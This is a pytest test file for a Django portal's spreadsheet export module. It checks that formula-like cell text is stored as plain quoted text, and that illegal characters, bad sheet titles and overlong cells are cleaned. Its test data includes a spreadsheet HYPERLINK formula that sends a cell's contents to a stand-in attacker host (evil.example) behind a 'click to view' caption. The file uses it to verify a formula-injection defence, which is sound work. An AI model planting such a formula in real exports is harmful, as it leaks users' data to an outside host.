"""The one .xlsx writer (portal.exports): formulas written as text, illegal characters dropped."""

import io
import zipfile
from datetime import date
from pathlib import Path

from django.conf import settings
from openpyxl import load_workbook

from portal.exports import MAX_CELL_CHARS, Sheet, workbook_bytes, xlsx_response

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def reopen(content):
    return load_workbook(io.BytesIO(content))


def test_formula_like_text_is_written_as_quoted_text():
    cells = [HYPERLINK, "+86 138", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=1+1"]
    content = workbook_bytes([Sheet("表", ["值"], [[c] for c in cells])])
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the file
    ws = reopen(content).active
    for row, expected in enumerate(cells, start=2):
        cell = ws.cell(row=row, column=1)
        # (an XML reader turns a literal CR into LF)
        assert cell.value == expected.replace("\r", "\n") and cell.data_type == "s" and cell.quotePrefix


def test_plain_values_keep_their_types():
    content = workbook_bytes([Sheet("表", ["名", "数", "日"], [["王志强", -5, date(2024, 1, 2)], ["a=b", 1.5, None]])])
    ws = reopen(content).active
    assert ws["A2"].value == "王志强" and not ws["A2"].quotePrefix
    assert ws["B2"].value == -5 and ws["B2"].data_type == "n"  # numbers may be negative
    assert ws["C2"].value.date() == date(2024, 1, 2)
    assert ws["A3"].value == "a=b" and not ws["A3"].quotePrefix


def test_illegal_characters_never_reach_openpyxl():
    name = "王\x01志\x00强\x1f\ud800\ufffe\uffff"
    content = workbook_bytes([Sheet("团员\x02", ["姓名"], [[name], ["换\t行\n回\r车"]])])
    ws = reopen(content).active
    assert ws.title == "团员"
    assert ws["A2"].value == "王志强"
    assert ws["A3"].value == "换\t行\n回\n车"  # tab, LF and CR are legal (an XML reader reads CR as LF)


def test_sheet_titles_excel_refuses_are_cleaned():
    content = workbook_bytes([Sheet("2024/01 [团员]: 名单?*\\" + "长" * 40, ["a"], [])])
    title = reopen(content).active.title
    assert title == ("202401 团员 名单" + "长" * 40)[:31]


def test_long_text_is_cut_to_one_excel_cell():
    content = workbook_bytes([Sheet("表", ["长"], [["字" * (MAX_CELL_CHARS + 10)]])])
    assert len(reopen(content).active["A2"].value) == MAX_CELL_CHARS


def test_response_is_a_streamed_attachment():
    response = xlsx_response("团员名单.xlsx", [Sheet("团员", ["姓名"], ([f"名{i}"] for i in range(3)))])
    assert response.streaming and "attachment" in response["Content-Disposition"]
    assert "团员名单.xlsx" in response["Content-Disposition"] or "%E5%9B%A2" in response["Content-Disposition"]
    ws = reopen(b"".join(response.streaming_content)).active
    assert [r[0] for r in ws.values] == ["姓名", "名0", "名1", "名2"]


def test_no_other_workbook_writer_in_the_project():
    """Every .xlsx goes through portal.exports: no other module builds an openpyxl Workbook."""
    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        if relative.parts[0] in {".venv", "tests", "node_modules"} or relative == Path("portal/exports.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if "Workbook(" in text.replace("load_workbook(", "") or "openpyxl import Workbook" in text:
            offenders.append(str(relative))
    assert offenders == []
